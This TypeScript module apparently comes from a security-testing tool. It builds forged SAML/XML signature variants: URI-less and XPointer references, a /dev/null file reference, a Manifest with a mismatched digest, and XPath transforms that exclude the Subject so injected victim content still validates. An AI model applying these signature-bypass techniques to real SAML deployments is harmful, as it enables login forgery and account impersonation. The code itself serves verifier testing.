/** References that say in another way what they mean, or mean something that is not the assertion: Core 5.4.2 and 5.4.4. */

import { createHash } from 'node:crypto';
import { canonicalization, digestMethods, transforms } from '../protocol/algorithms.ts';
import type { Mutation, ReferencePlan, SignaturePlan } from '../protocol/types.ts';
import { namespaces } from '../protocol/uris.ts';
import { edit } from './elements.ts';
import { referencing } from './references.ts';
import { withVictimContent } from './victim.ts';
import { inObject, inside } from './wrapping.ts';

const { ds } = namespaces;
const { enveloped } = transforms;
const { exclusive } = canonicalization;
const { sha256 } = digestMethods;
const base64Sha256 = (text: string): string => createHash('sha256').update(text).digest('base64');

/** One Reference a signature, made from the ID of the element that it stands in and that of the Response. */
function referencingBy(change: (id: string, rootId: string) => ReferencePlan): Mutation {
  return {
    plan: (plan) => {
      const { assertion, response } = plan.signing;
      const naming = (signature: SignaturePlan | undefined, id = ''): SignaturePlan | undefined =>
        signature && { ...signature, references: [change(id, plan.id ?? '')] };
      const signing = { assertion: naming(assertion, plan.assertions[0]?.id), response: naming(response, plan.id) };
      return { ...plan, signing };
    },
  };
}

/** The Reference has no URI; its digest is that of the element it stands in, or of the whole document. */
export function withoutUri(digestOf: 'parent' | 'document'): Mutation {
  return referencingBy((id, rootId) => ({ uri: null, digestOf: digestOf === 'parent' ? id : rootId }));
}

/** The Reference names its element, or the whole document, by an XPointer. */
export function byPointer(to: 'id' | 'root'): Mutation {
  return referencingBy((id, rootId) =>
    to === 'id' ? { uri: `#xpointer(id('${id}'))`, digestOf: id } : { uri: '#xpointer(/)', digestOf: rootId },
  );
}

/** The Reference names a file that is empty everywhere, without transforms; what is read speaks of the victim. */
export function emptyFile(): Mutation {
  return {
    ...referencing({ uri: 'file:///dev/null', transforms: [], digestValue: base64Sha256('') }),
    afterSigning: (xml, facts) => withVictimContent(xml, facts),
  };
}

const manifest = (id: string): string =>
  `<Manifest xmlns="${ds}" Id="_manifest${id}"><Reference URI="#${id}"><Transforms><Transform Algorithm="${enveloped}">` +
  `</Transform><Transform Algorithm="${exclusive}"></Transform></Transforms><DigestMethod Algorithm="${sha256}"></DigestMethod>` +
  `<DigestValue>${base64Sha256('')}</DigestValue></Reference></Manifest>`;

const toManifest = (id: string): ReferencePlan => ({
  uri: `#_manifest${id}`,
  transforms: [exclusive],
  digestValue: base64Sha256(manifest(id)),
});

/**
 * The Reference names a Manifest in the Signature's Object, and only that names the assertion, with a digest that does not
 * fit: validating what a Manifest lists is the application's own affair (XML Signature 1.1, 5.1).
 */
export function throughManifest(): Mutation {
  return {
    ...referencingBy(toManifest),
    afterSigning: (xml, facts) =>
      edit(withVictimContent(xml, facts), 'Signature', (signature) => {
        const id = /URI="#_manifest([^"]*)"/.exec(signature)?.[1] ?? '';
        return inside(signature, inObject(manifest(id)));
      }),
  };
}

/** An XPath transform leaves the Subject out, and so does the digest: whoever runs it finds the signature right. */
export function subjectLeftOut(by: 'xpath' | 'filter'): Mutation {
  const transform =
    by === 'xpath'
      ? `<ds:Transform xmlns:ds="${ds}" Algorithm="${transforms.xpath}">` +
        "<ds:XPath>not(ancestor-or-self::*[local-name()='Subject'])</ds:XPath></ds:Transform>"
      : `<ds:Transform xmlns:ds="${ds}" Algorithm="http://www.w3.org/2002/06/xmldsig-filter2">` +
        '<XPath xmlns="http://www.w3.org/2002/06/xmldsig-filter2" Filter="subtract">' +
        "//*[local-name()='Subject']</XPath></ds:Transform>";
  return {
    ...referencing({ transforms: [enveloped, transform], without: 'Subject' }),
    afterSigning: (xml, facts) => withVictimContent(xml, facts, ['NameID']),
  };
}
